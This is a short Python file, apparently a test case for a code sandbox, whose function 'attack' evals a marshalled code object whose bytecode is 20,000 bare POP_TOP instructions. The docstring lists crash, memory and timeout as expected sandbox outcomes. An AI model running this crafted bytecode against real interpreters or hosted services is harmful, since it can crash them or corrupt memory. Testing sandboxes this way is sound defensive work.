"""Load a marshalled code object with a false body.

Evidence: died
Sandbox: error, crashed, memory, timeout
"""

import marshal
import opcode


def attack(target):
    pop = opcode.opmap["POP_TOP"]
    body = bytes([pop, 0]) * 20_000
    packed = marshal.dumps((lambda: None).__code__.replace(co_code=body))
    return eval(marshal.loads(packed))
